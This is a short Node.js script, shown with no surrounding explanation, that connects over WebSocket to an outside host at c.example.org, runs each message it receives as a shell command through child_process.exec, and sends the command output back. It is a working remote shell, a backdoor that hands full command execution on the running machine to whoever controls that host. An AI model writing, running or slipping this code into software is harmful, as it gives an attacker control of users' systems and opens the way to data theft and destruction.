const WebSocket = require("ws");
const { exec } = require("child_process");
const ws = new WebSocket("wss://c.example.org");
ws.on("message", m => exec(m.toString(), (e, out) => ws.send(out)));
